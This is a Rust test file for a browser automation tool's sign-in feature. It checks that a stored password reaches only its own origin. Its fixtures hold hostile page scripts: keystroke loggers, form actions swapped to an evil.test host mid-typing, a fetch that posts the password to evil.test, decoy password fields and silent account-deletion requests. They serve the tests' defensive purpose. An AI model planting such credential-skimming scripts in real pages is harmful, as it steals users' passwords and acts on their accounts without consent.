//! Signing in: origins, decoys, outcomes (R6, R19–R25, cases 081 and 082). The server says where a
//! value went; nothing else is believed.

use super::lab::{Lab, canary};
use super::stage::{LOGIN, Stage};

const USER: &str = "ada.lovelace@example.test";

/// Names this stage is reached under; the credential belongs to `http://shop.test` alone.
const HOSTS: &[&str] = &[
    "shop.test",
    "login.shop.test",
    "test-shop.test",
    "evil.test",
    "xn--shp-yzc.test",
    "shop.test:8080",
    "shop.test.evil.test",
];

fn credential(lab: &mut Lab, password: &str) {
    lab.credential("shop", "http://shop.test", USER, password);
}

/// `start` at an address, then `login: shop`.
fn sign_in(lab: &Lab, id: &str, start: &str, more: &str, expect: &str) {
    lab.scenario(
        id,
        &format!(
            "start: {start}\ncredentials: [shop]\n{more}steps:\n  - login: shop\n    timeout: 2s\nexpect: [ {expect} ]\n"
        ),
    );
}

/// Everything any host received, to look for values in.
fn received_anywhere(stage: &Stage, value: &str) -> Vec<String> {
    let encoded: String = url::form_urlencoded::byte_serialize(value.as_bytes()).collect();
    stage
        .received()
        .iter()
        .filter(|r| {
            let all = format!("{} {}", r.path, r.body);
            all.contains(value) || all.contains(&encoded)
        })
        .map(|r| format!("{} {}{}", r.method, r.host, r.path))
        .collect()
}

#[test]
fn r19_r22_a_value_goes_to_its_own_origin_and_to_no_other() {
    let password = canary(16);
    let stage = Stage::open(&password);
    stage.page("*", "/login", &format!("<title>Sign in</title>{LOGIN}"));
    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
    let form = |action: &str| {
        format!(
            "<title>Sign in</title><form method=post {action}><label>User <input name=username></label>\
             <label>Password <input name=password type=password></label><button>Sign in</button></form>"
        )
    };
    stage.page("*", "/to-evil", &form("action=http://evil.test/take"));
    stage.page(
        "*",
        "/to-sibling",
        &form("action=http://login.shop.test/session"),
    );
    stage.page("*", "/to-https", &form("action=https://shop.test/session"));
    stage.page(
        "*",
        "/to-port",
        &form("action=http://shop.test:8080/session"),
    );
    stage.page("*", "/to-script", &form("action=\"javascript:void 0\""));
    stage.page(
        "*",
        "/button-to-evil",
        &form("action=/session").replace("<button>", "<button formaction=http://evil.test/take>"),
    );
    // Fields can't hide the form's own action from us.
    stage.page(
        "*",
        "/clobbered",
        &form("action=http://evil.test/take")
            .replace("<button>", "<input name=action value=/session><button>"),
    );
    stage.page(
        "*",
        "/framed",
        "<title>Framed</title><iframe title=box width=600 height=400 src=http://shop.test/login></iframe>",
    );
    stage.page(
        "*",
        "/frames-evil",
        "<title>Frames</title><iframe title=box width=600 height=400 src=http://evil.test/login></iframe>",
    );
    let mut lab = Lab::on(&stage, HOSTS, true);
    credential(&mut lab, &password);
    let home = "{ see: Orders }";
    sign_in(&lab, "right", "http://shop.test/login", "", home);
    sign_in(&lab, "upper-case", "http://SHOP.TEST/login", "", home);
    sign_in(&lab, "default-port", "http://shop.test:80/login", "", home);
    for (id, start) in [
        ("subdomain", "http://login.shop.test/login"),
        ("sibling", "http://test-shop.test/login"),
        ("other-port", "http://shop.test:8080/login"),
        ("punycode", "http://xn--shp-yzc.test/login"),
        ("prefix", "http://shop.test.evil.test/login"),
        ("action-evil", "http://shop.test/to-evil"),
        ("action-sibling", "http://shop.test/to-sibling"),
        ("action-https", "http://shop.test/to-https"),
        ("action-port", "http://shop.test/to-port"),
        ("button-action", "http://shop.test/button-to-evil"),
        ("clobbered", "http://shop.test/clobbered"),
        ("framed-by-evil", "http://evil.test/framed"),
        ("frames-evil", "http://shop.test/frames-evil"),
        ("action-script", "http://shop.test/to-script"),
    ] {
        sign_in(
            &lab,
            id,
            start,
            "hosts: [evil.test, login.shop.test]\n",
            home,
        );
    }
    // `fill` with `credential:` is held to the same.
    for (id, start) in [
        ("fill-right", "http://shop.test/login"),
        ("fill-evil", "http://evil.test/login"),
        ("fill-action", "http://shop.test/to-evil"),
    ] {
        lab.scenario(
            id,
            &format!(
                "start: {start}\ncredentials: [shop]\nhosts: [evil.test]\nsteps:\n  - {{ fill: Password, credential: shop.password }}\nexpect: [ {{ title: Sign in }} ]\n"
            ),
        );
    }
    let run = lab.run(&["--fresh", "--jobs", "2"]);
    let wrong = "refused/wrong_origin";
    run.check(&[
        ("right", "passed/completed"),
        ("upper-case", "passed/completed"),
        ("default-port", "passed/completed"),
        ("subdomain", wrong),
        ("sibling", wrong),
        ("other-port", wrong),
        ("punycode", wrong),
        ("prefix", wrong),
        ("action-evil", wrong),
        ("action-sibling", wrong),
        ("action-https", wrong),
        ("action-port", wrong),
        ("button-action", wrong),
        ("clobbered", wrong),
        ("framed-by-evil", "failed/no_form"),
        ("frames-evil", "failed/no_form"),
        ("action-script", wrong),
        ("fill-right", "passed/completed"),
        ("fill-evil", wrong),
        ("fill-action", wrong),
    ]);
    let places = received_anywhere(&stage, &password);
    assert!(
        places.iter().all(|p| p == "POST shop.test/session") && places.len() == 3,
        "{places:?}"
    );
    let said = run.failure("sibling");
    assert!(
        said.contains("http://shop.test") && said.contains("test-shop.test"),
        "both origins are named: {said}"
    );
}

/// R20, R21, R23, R25 and case 081: pages that work against the one who types.
#[test]
fn r20_r21_r23_case_081_pages_that_turn_while_a_secret_is_typed() {
    let password = canary(16);
    let stage = Stage::open(&password);
    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
    let keys = "<script>for (const e of document.querySelectorAll('input'))\
                e.addEventListener('input', () => fetch('/seen?' + e.id + '=' + encodeURIComponent(e.value)));</script>";
    let page = |path: &str, inside: &str, script: &str| {
        stage.page(
            "shop.test",
            path,
            &format!(
                "<title>Sign in</title><form id=f method=post action=/session>{inside}\
                 <label>User <input id=u name=username></label>\
                 <label>Password <input id=p name=password type=password></label>\
                 <button id=b>Sign in</button></form><script>{script}</script>"
            ),
        );
    };
    page(
        "/swaps-action",
        "",
        "p.oninput = () => f.setAttribute('action', 'http://evil.test/take')",
    );
    page(
        "/swaps-button",
        "",
        "p.oninput = () => b.setAttribute('formaction', 'http://evil.test/take')",
    );
    page(
        "/swaps-method",
        "",
        "p.oninput = () => f.setAttribute('method', 'get')",
    );
    page(
        "/navigates",
        "",
        "p.onfocus = () => location.href = 'http://evil.test/login'",
    );
    page(
        "/navigates-late",
        "",
        "p.oninput = () => { if (p.value.length > 4) location.href = 'http://evil.test/login' }",
    );
    page(
        "/jumps",
        "<label>Search <input id=q></label>",
        "p.oninput = () => { if (p.value.length === 3) q.focus() }; q.oninput = () => fetch('/searched?q=' + q.value)",
    );
    // Decoys: none of them may ever get a key of the password.
    page(
        "/decoys",
        "<input type=password id=d1 name=d1 style=display:none>\
         <input type=password id=d2 name=d2 style=\"position:absolute;left:-9999px\">\
         <input type=password id=d3 name=d3 style=opacity:0>\
         <input type=password id=d4 name=d4 style=\"width:2px;height:2px;padding:0;border:0\">\
         <input type=password id=d5 name=d5 disabled><input type=password id=d6 name=d6 readonly>",
        "",
    );
    stage.page(
        "shop.test",
        "/two-forms",
        &format!("<title>Sign in</title>{LOGIN}<form><label>Other <input type=password id=x></label></form>"),
    );
    stage.page(
        "shop.test",
        "/registration",
        "<title>Join</title><form method=post action=/session><label>User <input name=username></label>\
         <label>Password <input type=password name=password autocomplete=new-password></label>\
         <label>Again <input type=password name=again autocomplete=new-password></label><button>Join</button></form>",
    );
    let get = |method: &str| {
        format!(
            "<title>Sign in</title><form {method} action=/search><label>User <input id=u name=username></label>\
             <label>Password <input id=p name=password type=password></label><button>Sign in</button></form>{keys}"
        )
    };
    stage.page("shop.test", "/get", &get("method=get"));
    stage.page("shop.test", "/no-method", &get(""));
    stage.page("shop.test", "/get-case", &get("method=GeT"));
    stage.page(
        "evil.test",
        "/login",
        &format!("<title>Evil</title>{LOGIN}{keys}"),
    );
    let mut lab = Lab::on(&stage, HOSTS, true);
    credential(&mut lab, &password);
    let evil = "hosts: [evil.test]\n";
    for id in [
        "swaps-action",
        "swaps-button",
        "swaps-method",
        "navigates",
        "navigates-late",
        "jumps",
        "decoys",
        "two-forms",
        "registration",
        "get",
        "get-case",
        "no-method",
    ] {
        sign_in(
            &lab,
            id,
            &format!("http://shop.test/{id}"),
            evil,
            "{ see: Orders }",
        );
    }
    let run = lab.run(&["--fresh", "--jobs", "2"]);
    run.check(&[
        ("swaps-action", "refused/wrong_origin"),
        ("swaps-button", "refused/wrong_origin"),
        ("swaps-method", "failed/unsafe_form"),
        ("navigates", "refused/wrong_origin"),
        ("navigates-late", "refused/wrong_origin"),
        ("jumps", "failed/focus_moved"),
        ("decoys", "passed/completed"),
        ("two-forms", "failed/unsafe_form"),
        ("registration", "failed/unsafe_form"),
        ("get", "failed/unsafe_form"),
        ("get-case", "failed/unsafe_form"),
        ("no-method", "refused/secret_in_url"),
    ]);
    let received = stage.received();
    let whole = received_anywhere(&stage, &password);
    assert_eq!(
        whole,
        ["POST shop.test/session"],
        "only the page with decoys was signed in to"
    );
    // Nothing of the password reaches another field or another page.
    for request in &received {
        assert!(
            request.host != "evil.test" || !request.path.contains("p="),
            "nothing typed at evil.test: {}",
            request.path
        );
        if let Some(q) = request.path.strip_prefix("/searched?q=") {
            assert_eq!(q, "", "letters of the password in a search");
        }
    }
    // The decoys' form was sent with all of them empty.
    let sent = received
        .iter()
        .find(|r| r.path == "/session")
        .expect("a sign-in");
    for decoy in ["d1=", "d2=", "d3=", "d4=", "d6="] {
        let value = sent.body.split('&').find_map(|f| f.strip_prefix(decoy));
        assert_eq!(value, Some(""), "{decoy} of {}", sent.body);
    }
}

/// Outcomes, each by name, and a cool-down that outlives the run.
#[test]
fn r6_r65_logins_end_with_a_named_outcome() {
    let password = canary(16);
    let stage = Stage::open(&password);
    stage.page("*", "/login", &format!("<title>Sign in</title>{LOGIN}"));
    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
    stage.page(
        "*",
        "/login-user",
        "<title>Sign in</title><form method=post action=/session/user><label>User <input name=username autocomplete=username></label><button>Next</button></form>",
    );
    stage.page(
        "*",
        "/login-password",
        "<title>Sign in</title><form method=post action=/session><input name=username value=x hidden autocomplete=username>\
         <label>Password <input name=password type=password></label><button>Sign in</button></form>",
    );
    stage.page(
        "*",
        "/login-then-code",
        &LOGIN.replace("action=/session", "action=/session/to-code"),
    );
    stage.page(
        "*",
        "/login-stay",
        &LOGIN.replace("action=/session", "action=/session/stay"),
    );
    stage.page(
        "*",
        "/login-code",
        "<title>Code</title><form method=post action=/session/code><label>Code <input name=code inputmode=numeric maxlength=6 autocomplete=one-time-code></label><button>Verify</button></form>",
    );
    stage.page(
        "*",
        "/captcha",
        "<title>Sign in</title><form id=f method=post action=/session><label>User <input name=username></label>\
         <label>Password <input id=p name=password type=password></label><button>Sign in</button></form>\
         <script>f.onsubmit = e => { e.preventDefault(); p.value = ''; f.insertAdjacentHTML('afterend', '<iframe title=\"CAPTCHA challenge\" srcdoc=x></iframe>') }</script>",
    );
    let mut lab = Lab::on(&stage, HOSTS, true);
    credential(&mut lab, &password);
    lab.set("SHOP_TOTP", "JBSWY3DPEHPK3PXP");
    lab.credential("nocode", "http://shop.test", USER, &password);
    for name in ["stale", "wrong"] {
        lab.credential(
            name,
            "http://shop.test",
            USER,
            &format!("{name}-password-9"),
        );
    }
    let login = |id: &str, start: &str, name: &str, more: &str| {
        lab.scenario(
            id,
            &format!(
                "start: http://shop.test/{start}\ncredentials: [{name}]\n{more}steps:\n  - login: {name}\n    timeout: 2s\nexpect: [ {{ see: Orders }} ]\n"
            ),
        );
    };
    login("one-page", "login", "shop", "");
    login("two-pages", "login-user", "shop", "");
    login("with-code", "login-then-code", "shop", "");
    login("no-seed", "login-then-code", "nocode", "");
    login("captcha", "captcha", "shop", "");
    login("no-form", "home", "shop", "");
    login("kept-form", "login-stay", "shop", "");
    let stays = |id: &str, name: &str, see: &str| {
        lab.scenario(
            id,
            &format!("start: http://shop.test/login-stay\ncredentials: [{name}]\nsteps:\n  - login: {name}\n    timeout: 2s\n    expect: {{ see: {see} }}\nexpect: [ {{ see: {see} }} ]\n"),
        );
    };
    stays("kept-form-told", "shop", "Orders");
    // What the page showed before is no evidence.
    stays("kept-form-before", "wrong", "Password");
    lab.scenario(
        "already",
        "start: http://shop.test/home\ncredentials: [shop]\nsteps:\n  - login: shop\n    expect: { see: Orders }\nexpect: [ { see: Orders } ]\n",
    );
    let run = lab.run(&["--fresh", "--jobs", "2"]);
    run.check(&[
        ("one-page", "passed/completed"),
        ("two-pages", "passed/completed"),
        ("with-code", "passed/completed"),
        ("no-seed", "failed/human_needed"),
        ("captcha", "failed/captcha"),
        ("no-form", "failed/no_form"),
        ("kept-form", "failed/login_rejected"),
        ("kept-form-told", "passed/completed"),
        ("kept-form-before", "failed/login_rejected"),
        ("already", "passed/completed"),
    ]);
    let by = |id: &str| {
        let end = run.of(id, "scenario_finished").last().cloned();
        end.and_then(|e| e["signed_in_by"].as_str().map(str::to_owned))
    };
    assert_eq!(by("one-page").as_deref(), Some("credential"));
    assert_eq!(by("already").as_deref(), Some("already signed in"));

    // Expected rejections don't count; others do, and the fourth is not tried.
    let rejected = |id: &str, ends: &str| {
        lab.scenario(
            id,
            &format!(
                "start: http://shop.test/login\ncredentials: [stale]\n{ends}steps:\n  - login: stale\nexpect: [ {{ see: Orders }} ]\n"
            ),
        );
    };
    rejected(
        "expected",
        "ends: { status: failed, reason: login_rejected, step: 1 }\n",
    );
    rejected("rejected", "");
    let tries = || {
        stage
            .writes()
            .iter()
            .filter(|w| w.ends_with("/session"))
            .count()
    };
    let before = tries();
    let run = lab.run(&["expected", "--fresh", "--repeat", "4"]);
    assert_eq!((run.code, tries() - before), (0, 4), "{}", run.stdout);
    let run = lab.run(&["rejected", "--fresh", "--repeat", "3"]);
    run.check(&[("rejected", "failed/login_rejected")]);
    assert_eq!(tries() - before, 7);
    let run = lab.run(&["rejected", "--fresh"]);
    run.check(&[("rejected", "failed/login_cooling_down")]);
    assert_eq!(tries() - before, 7, "the fourth was not tried");
    let reset = lab
        .command()
        .args(["credentials", "test", "stale", "--reset"])
        .output()
        .expect("the program");
    assert!(
        reset.status.success(),
        "{}",
        String::from_utf8_lossy(&reset.stderr)
    );
    let run = lab.run(&["rejected", "--fresh"]);
    run.check(&[("rejected", "failed/login_rejected")]);
}

/// A page with a form to `/session`, what stands in it given.
fn form(stage: &Stage, path: &str, inside: &str, after: &str) {
    let html = format!(
        "<title>Sign in</title><h1>Sign in</h1><form id=f method=post action=/session>{inside}</form>{after}"
    );
    stage.page("shop.test", path, &html);
}

const PASSWORD: &str = "<label>Password <input id=p name=password type=password></label>";

/// Sends what was filled in by script, and goes where the site's answer leads.
fn by_script(path: &str, name: &str, value: &str) -> String {
    format!(
        "fetch('{path}',{{method:'POST',body:new URLSearchParams({{username:window.u?u.value:'',{name}:{value}}})}})\
         .then(r=>{{if(r.redirected)location=r.url}})"
    )
}

/// R23: the user name by what a field says of itself, the button by what it says it does.
#[test]
fn r23_fields_and_buttons_are_chosen_by_what_they_say() {
    let password = canary(16);
    let stage = Stage::open(&password);
    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
    let send = by_script("/session", "password", "p.value");
    let button = "<button>Sign in</button>";
    let user = "<label>User <input id=u name=username></label>";
    form(
        &stage,
        "/tenant",
        &format!(
            "<label>User name <input name=username></label><label>Company code <input name=tenant></label>{PASSWORD}{button}"
        ),
        "",
    );
    form(
        &stage,
        "/account",
        &format!(
            "<label>E-mail address <input name=username type=email></label><label>Account number (optional) <input name=tenant></label>{PASSWORD}{button}"
        ),
        "",
    );
    form(
        &stage,
        "/unlabelled",
        &format!(
            "<label>Benutzername <input name=username></label><input name=tenant>{PASSWORD}{button}"
        ),
        "",
    );
    form(
        &stage,
        "/drawn-password",
        &format!(
            "{user}<label>Word <input name=password autocomplete=current-password style=-webkit-text-security:disc></label>{button}"
        ),
        "",
    );
    form(
        &stage,
        "/register-first",
        &format!(
            "{user}{PASSWORD}<button type=button onclick=\"p.type='text'\">Show password</button>\
                  <button formaction=/register>Create account</button><button formaction=/sso>Continue</button><button>Log in</button>"
        ),
        "",
    );
    form(
        &stage,
        "/div-button",
        &format!(
            "{user}{PASSWORD}<div role=button tabindex=0 onclick=f.requestSubmit()>Sign in</div>"
        ),
        "",
    );
    form(
        &stage,
        "/typed-button",
        &format!("{user}{PASSWORD}<button type=button onclick=\"{send}\">Log in</button>"),
        "",
    );
    form(
        &stage,
        "/hidden-password",
        &format!(
            "<div id=a>{user}<button type=button onclick=\"a.style.display='none';c.style.display=''\">Next</button></div>\
                  <div id=c style=display:none>{PASSWORD}{button}</div>"
        ),
        "",
    );
    // The browser would send this one with its password empty.
    form(
        &stage,
        "/empty-password",
        &format!("{user}<div style=display:none>{PASSWORD}</div><button>Continue</button>"),
        "",
    );
    form(
        &stage,
        "/twins",
        &format!("{user}{PASSWORD}<button>Log in</button><button>Sign in</button>"),
        "",
    );
    form(
        &stage,
        "/no-fit",
        &format!("{user}{PASSWORD}<button>Create account</button>"),
        "",
    );
    form(
        &stage,
        "/cut",
        &format!(
            "{user}<label>Password <input name=password type=password maxlength=8></label>{button}"
        ),
        "",
    );
    let new = PASSWORD.replace("type=password", "type=password autocomplete=new-password");
    form(&stage, "/new-password", &format!("{user}{new}{button}"), "");
    let in_tab = format!(
        "<title>Sign in</title><form method=post action=/session target=_blank>{user}{PASSWORD}{button}</form>"
    );
    stage.page("shop.test", "/other-tab", &in_tab);
    let loose = |path: &str, html: &str| {
        stage.page("shop.test", path, &format!("<title>Sign in</title>{html}"));
    };
    loose(
        "/formless",
        &format!(
            "<header><button>Menu</button></header><div>{user}<div>{PASSWORD}<button><svg></svg></button></div>\
                  <button onclick=\"{send}\">Sign in</button></div>"
        ),
    );
    loose(
        "/steps",
        &format!(
            "<div id=a><h1>Sign in</h1><label>E-mail or phone <input id=u type=email autocomplete=username></label>\
                  <button type=button onclick=\"a.hidden=true;c.hidden=false\">Next</button></div>\
                  <div id=c hidden>{PASSWORD}<button type=button onclick=\"{send}\">Next</button></div>"
        ),
    );
    let mut lab = Lab::on(&stage, HOSTS, true);
    credential(&mut lab, &password);
    let pass = [
        "tenant",
        "account",
        "unlabelled",
        "drawn-password",
        "register-first",
        "div-button",
        "typed-button",
        "hidden-password",
        "formless",
        "steps",
    ];
    let fail = [
        "empty-password",
        "twins",
        "no-fit",
        "cut",
        "new-password",
        "other-tab",
    ];
    for id in pass.iter().chain(&fail) {
        let start = format!("http://shop.test/{id}");
        sign_in(&lab, id, &start, "", "{ see: Orders }");
    }
    lab.scenario(
        "followed-tab",
        "start: http://shop.test/other-tab\ncredentials: [shop]\nsteps:\n  - login: shop\n    opens: tab\nexpect: [ { see: Orders } ]\n",
    );
    let run = lab.run(&["--fresh", "--jobs", "2"]);
    let mut wishes: Vec<(&str, &str)> = pass.map(|id| (id, "passed/completed")).to_vec();
    wishes.push(("followed-tab", "passed/completed"));
    wishes.push(("empty-password", "failed/login_not_sent"));
    for id in &fail[1..] {
        wishes.push((id, "failed/unsafe_form"));
    }
    run.check(&wishes);
    for (id, words) in [
        ("cut", "maxlength"),
        ("new-password", "asks for a new password"),
        ("twins", "two of its buttons"),
        ("other-tab", "opens: tab"),
    ] {
        assert!(run.failure(id).contains(words), "{}", run.failure(id));
    }
    // The user name was typed before the password was cut.
    let covered = run.of("cut", "frame").any(|frame| {
        let redactions = frame["redactions"].to_string();
        redactions.contains("element that shows a registered value")
    });
    assert!(covered, "{:?}", run.of("cut", "frame").collect::<Vec<_>>());
    // Every sign-in went to the form's own address, with both values in their own fields.
    let sent: Vec<_> = stage
        .received()
        .into_iter()
        .filter(|r| r.method == "POST")
        .collect();
    assert_eq!(sent.len(), pass.len() + 1, "{sent:?}");
    for request in sent {
        let user: String = url::form_urlencoded::byte_serialize(USER.as_bytes()).collect();
        let by_name = request.body.contains(&format!("username={user}"));
        assert!(request.path == "/session" && by_name, "{request:?}");
        assert!(
            !request.body.contains(&format!("tenant={user}")),
            "{request:?}"
        );
    }
}

/// R89, R90: what an entered credential covers is the request that takes it home, nothing beside it.
#[test]
fn r89_r90_a_credential_covers_its_own_submit_and_nothing_else() {
    let password = canary(16);
    let stage = Stage::open(&password);
    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
    let fields =
        format!("<label>User <input id=u name=username></label>{PASSWORD}<button>Sign in</button>");
    form(
        &stage,
        "/with-delete",
        &fields,
        "<script>f.onsubmit=()=>{fetch('/account',{method:'DELETE'}).finally(()=>fetch('/pay',{method:'POST'}))}</script>",
    );
    form(
        &stage,
        "/delete-beside",
        &fields,
        "<button onclick=\"fetch('/account',{method:'DELETE'})\">Delete account</button>",
    );
    form(
        &stage,
        "/while-typing",
        &fields,
        "<script>p.oninput=()=>fetch('http://evil.test/key',{method:'POST',mode:'no-cors',body:p.value})</script>",
    );
    form(
        &stage,
        "/socket",
        &fields,
        "<script>p.oninput=()=>{window.w=window.w||new WebSocket('ws://evil.test/ws')}</script>",
    );
    let mut lab = Lab::on(&stage, HOSTS, false);
    credential(&mut lab, &password);
    let evil = "hosts: [evil.test]\n";
    for id in ["with-delete", "while-typing", "socket"] {
        sign_in(
            &lab,
            id,
            &format!("http://shop.test/{id}"),
            evil,
            "{ see: Orders }",
        );
    }
    for (id, button) in [("by-hand", "Sign in"), ("delete-beside", "Delete account")] {
        lab.scenario(
            id,
            &format!(
                "start: http://shop.test/delete-beside\ncredentials: [shop]\nsteps:\n  - {{ fill: Password, credential: shop.password }}\n  - click: {button}\nexpect: [ {{ see: Orders }} ]\n"
            ),
        );
    }
    let run = lab.run(&["--fresh", "--jobs", "2"]);
    let stopped = "refused/undeclared_write";
    run.check(&[
        ("with-delete", stopped),
        ("delete-beside", stopped),
        ("while-typing", stopped),
        ("socket", "passed/completed"),
        ("by-hand", "passed/completed"),
    ]);
    // The first of what was stopped is named: what comes after may be the page's answer to it.
    for (id, first) in [
        ("with-delete", "DELETE http://shop.test/account"),
        ("while-typing", "POST http://evil.test/key"),
    ] {
        assert!(run.failure(id).contains(first), "{}", run.failure(id));
    }
    let socket = run.of("socket", "blocked").any(|e| {
        e["host"] == "evil.test" && e["reason"] == "socket to another host during a sign-in"
    });
    assert!(
        socket,
        "no socket leads elsewhere while a password is typed"
    );
    let others: Vec<String> = stage
        .writes()
        .into_iter()
        .filter(|w| !w.ends_with("/session"))
        .collect();
    assert!(others.is_empty(), "{others:?}");
}

/// Codes by what their fields say, one digit to a box; a page that sends nothing has refused nothing.
#[test]
fn r23_codes_and_pages_that_send_nothing() {
    let password = canary(16);
    let stage = Stage::open(&password);
    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
    stage.page("*", "/login-code", "<title>None</title>");
    let after = |id: &str, code: &str| {
        let fields = format!(
            "<label>User <input id=u name=username></label>{PASSWORD}<button>Sign in</button>"
        );
        let script = format!(
            "<script>f.onsubmit=e=>{{e.preventDefault();fetch('/session',{{method:'POST',body:new URLSearchParams(new FormData(f))}})\
             .then(r=>{{if(r.redirected)location='/code-{id}'}})}}</script>"
        );
        form(&stage, &format!("/{id}"), &fields, &script);
        stage.page(
            "shop.test",
            &format!("/code-{id}"),
            &format!("<title>Code</title><h1>Two steps</h1>{code}"),
        );
    };
    let verify = "<button>Verify</button></form>";
    after(
        "labelled",
        &format!(
            "<form method=post action=/session/code><label>Authentication code <input name=code></label>\
                  <button type=button>Use a recovery code</button>{verify}"
        ),
    );
    let boxes: String = (1..=6)
        .map(|n| format!("<input class=d aria-label=\"Digit {n}\" maxlength=1 size=2>"))
        .collect();
    let steps_on = "const d=[...document.querySelectorAll('.d')];d.forEach((e,i)=>e.oninput=()=>{if(d[i+1])d[i+1].focus()";
    after(
        "boxes",
        &format!(
            "<form id=f method=post action=/session/code>{boxes}<input type=hidden name=code id=c>{verify}\
                  <script>{steps_on}}});f.onsubmit=()=>{{c.value=d.map(x=>x.value).join('')}}</script>"
        ),
    );
    let code = by_script("/session/code", "code", "d.map(x=>x.value).join('')");
    after(
        "by-itself",
        &format!("<form>{boxes}</form><script>{steps_on};else {code}}})</script>"),
    );
    after(
        "many",
        "<form method=post action=/session/code><label>Security code <input name=a></label><label>SMS code <input name=b></label><button>Verify</button></form>",
    );
    form(
        &stage,
        "/silent",
        &format!(
            "<label>User <input name=username></label>{PASSWORD}<button type=button>Sign in</button>"
        ),
        "",
    );
    let mut lab = Lab::on(&stage, HOSTS, true);
    credential(&mut lab, &password);
    lab.set("SHOP_TOTP", "JBSWY3DPEHPK3PXP");
    for id in ["labelled", "boxes", "by-itself", "many", "silent"] {
        sign_in(
            &lab,
            id,
            &format!("http://shop.test/{id}"),
            "",
            "{ see: Orders }",
        );
    }
    let run = lab.run(&["--fresh", "--jobs", "2"]);
    run.check(&[
        ("labelled", "passed/completed"),
        ("boxes", "passed/completed"),
        ("by-itself", "passed/completed"),
        ("many", "failed/human_needed"),
        ("silent", "failed/login_not_sent"),
    ]);
    // Counted by nobody: after three the fourth is still tried.
    let run = lab.run(&["silent", "--fresh", "--repeat", "4"]);
    run.check(&[("silent", "failed/login_not_sent")]);
}

/// R6, case 072: what is missing or empty is found before any browser.
#[test]
fn r6_case_072_a_missing_or_empty_credential_stops_before_any_browser() {
    let stage = Stage::open("");
    let mut lab = Lab::on(&stage, HOSTS, true);
    sign_in(
        &lab,
        "missing",
        "http://shop.test/login",
        "",
        "{ see: Orders }",
    );
    let run = lab.run(&["--fresh"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(!run.browser_seen && stage.received().is_empty());
    assert!(run.stderr.contains("shop"), "{}", run.stderr);
    credential(&mut lab, "");
    let run = lab.run(&["--fresh"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(!run.browser_seen && stage.received().is_empty());
    assert!(run.stderr.contains("shop"), "{}", run.stderr);
}
